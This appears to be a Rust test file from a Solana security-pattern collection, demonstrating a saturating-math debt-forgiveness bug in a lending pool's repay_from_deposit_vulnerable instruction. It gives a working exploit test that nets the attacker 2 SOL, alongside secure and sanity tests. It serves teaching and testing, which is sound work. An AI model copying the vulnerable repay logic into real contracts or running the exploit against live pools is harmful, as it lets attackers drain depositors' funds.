@@ -0,0 +1,270 @@
+/// # Pattern 209: Saturating Math — Mollusk Exploit Tests
+///
+/// The pool holds 10 SOL of liquidity and lends up to twice a member's
+/// deposit. In each test the attacker opens with a 1 SOL deposit and
+/// borrows the full 2 SOL limit.
+///
+/// - Test 1: EXPLOIT — repay_from_deposit_vulnerable clears the 2 SOL debt
+///   with the 1 SOL deposit. The attacker repeats the round and keeps
+///   2 SOL of the pool's money.
+/// - Test 2: SECURE — repay_from_deposit_secure fails on the shortfall and
+///   the debt stays on the books.
+/// - Test 3: SANITY — after repaying 1 SOL from their wallet, the
+///   attacker settles through repay_from_deposit_secure and the pool is
+///   whole.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, Ledger,
+};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("8neaYqEsg2dyVS56wvn3wv3Sf7FLZMJKTwxgDQhHPKfn");
+
+const SOL: u64 = 1_000_000_000;
+const RENT: u64 = 2_000_000;
+const WALLET: u64 = 10 * SOL;
+const LIQUIDITY: u64 = 10 * SOL;
+
+/// The attacker's deposit, and the debt twice that allows.
+const DEPOSIT: u64 = SOL;
+const BORROW: u64 = 2 * SOL;
+
+// Error codes
+const INSUFFICIENT_DEPOSIT: u32 = 6001;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Pool account:
+///   [8 disc][1 bump]
+fn serialize_pool(bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(9);
+    data.extend_from_slice(&account_discriminator("Pool"));
+    data.push(bump);
+    data
+}
+
+/// Serialize a CreditAccount:
+///   [8 disc][32 owner][8 deposit][8 debt][1 bump]
+fn serialize_credit(owner: &Pubkey, deposit: u64, debt: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(57);
+    data.extend_from_slice(&account_discriminator("CreditAccount"));
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&deposit.to_le_bytes());
+    data.extend_from_slice(&debt.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+struct Setup {
+    mollusk: Mollusk,
+    pool: Pubkey,
+    account: Pubkey,
+    account_bump: u8,
+    attacker: Pubkey,
+    ledger: Ledger,
+}
+
+impl Setup {
+    /// The pool, and the attacker's open credit account, then the opening
+    /// round: deposit 1 SOL, borrow 2 SOL.
+    fn new() -> Self {
+        let (pool, pool_bump) = Pubkey::find_program_address(&[b"pool"], &PROGRAM_ID);
+        let attacker = Pubkey::new_unique();
+        let (account, account_bump) =
+            Pubkey::find_program_address(&[b"account", attacker.as_ref()], &PROGRAM_ID);
+
+        let ledger = vec![
+            (
+                pool,
+                owned_account(&serialize_pool(pool_bump), RENT + LIQUIDITY, &PROGRAM_ID),
+            ),
+            (
+                account,
+                owned_account(&serialize_credit(&attacker, 0, 0, account_bump), RENT, &PROGRAM_ID),
+            ),
+            (
+                attacker,
+                AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID),
+            ),
+            (
+                solana_sdk::system_program::ID,
+                executable_account(&solana_sdk::native_loader::id()),
+            ),
+        ];
+
+        let mut s = Self {
+            mollusk: Mollusk::new(&PROGRAM_ID, "saturating_math"),
+            pool,
+            account,
+            account_bump,
+            attacker,
+            ledger: Ledger::new(ledger),
+        };
+        s.open_round();
+        s
+    }
+
+    /// Deposit 1 SOL and borrow 2 SOL against it.
+    fn open_round(&mut self) {
+        let ix = self.fund("deposit", DEPOSIT);
+        self.ledger.step(&self.mollusk, &ix, &[Check::success()]);
+        let ix = self.borrow(BORROW);
+        self.ledger.step(&self.mollusk, &ix, &[Check::success()]);
+    }
+
+    /// deposit / repay: the owner's wallet pays the pool.
+    fn fund(&self, name: &str, amount: u64) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.pool, false),
+                AccountMeta::new(self.account, false),
+                AccountMeta::new(self.attacker, true),
+                AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+            ],
+        )
+    }
+
+    fn borrow(&self, amount: u64) -> Instruction {
+        let mut data = ix_discriminator("borrow").to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new(self.pool, false),
+                AccountMeta::new(self.account, false),
+                AccountMeta::new(self.attacker, true),
+            ],
+        )
+    }
+
+    /// repay_from_deposit_vulnerable / repay_from_deposit_secure.
+    fn settle(&self, name: &str) -> Instruction {
+        Instruction::new_with_bytes(
+            PROGRAM_ID,
+            &ix_discriminator(name),
+            vec![
+                AccountMeta::new(self.account, false),
+                AccountMeta::new_readonly(self.attacker, true),
+            ],
+        )
+    }
+
+    fn credit_data(&self, deposit: u64, debt: u64) -> Vec<u8> {
+        serialize_credit(&self.attacker, deposit, debt, self.account_bump)
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_saturating_settle_forgives_debt_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: With 1 SOL deposited and 2 SOL borrowed, the attacker calls
+    // repay_from_deposit_vulnerable, then runs the same round again.
+    //
+    // Expected: both settlements SUCCEED. Each leaves deposit 0 and debt 0,
+    //           forgiving 1 SOL. After two rounds the attacker's wallet is
+    //           up 2 SOL and the pool is down 2 SOL, with nothing owed.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (pool, account, attacker) = (s.pool, s.account, s.attacker);
+
+    let ix = s.settle("repay_from_deposit_vulnerable");
+    let clean = s.credit_data(0, 0);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&account).data(&clean).build(),
+        ],
+    );
+
+    s.open_round();
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&account).data(&clean).build(),
+        ],
+    );
+
+    assert_eq!(s.ledger.lamports(&attacker), WALLET + 2 * SOL);
+    assert_eq!(s.ledger.lamports(&pool), RENT + LIQUIDITY - 2 * SOL);
+}
+
+#[test]
+fn secure_settle_rejects_shortfall() {
+    // -----------------------------------------------------------------------
+    // SECURE: The same settlement through repay_from_deposit_secure.
+    //
+    // Expected: FAILS with InsufficientDeposit (6001). The account still
+    //           reads deposit 1 SOL, debt 2 SOL.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+
+    let ix = s.settle("repay_from_deposit_secure");
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(INSUFFICIENT_DEPOSIT))],
+    );
+
+    assert_eq!(
+        s.ledger.data(&s.account),
+        s.credit_data(DEPOSIT, BORROW).as_slice()
+    );
+}
+
+#[test]
+fn sanity_settle_after_repaying_shortfall_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: The attacker repays 1 SOL from their wallet, then settles the
+    // remaining 1 SOL through repay_from_deposit_secure.
+    //
+    // Expected: both SUCCEED. The account reads deposit 0, debt 0, and the
+    //           pool and the wallet are back where they started.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (pool, account, attacker) = (s.pool, s.account, s.attacker);
+
+    let ix = s.fund("repay", BORROW - DEPOSIT);
+    let covered = s.credit_data(DEPOSIT, DEPOSIT);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&account).data(&covered).build(),
+        ],
+    );
+
+    let ix = s.settle("repay_from_deposit_secure");
+    let clean = s.credit_data(0, 0);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&account).data(&clean).build(),
+        ],
+    );
+
+    assert_eq!(s.ledger.lamports(&attacker), WALLET);
+    assert_eq!(s.ledger.lamports(&pool), RENT + LIQUIDITY);
+}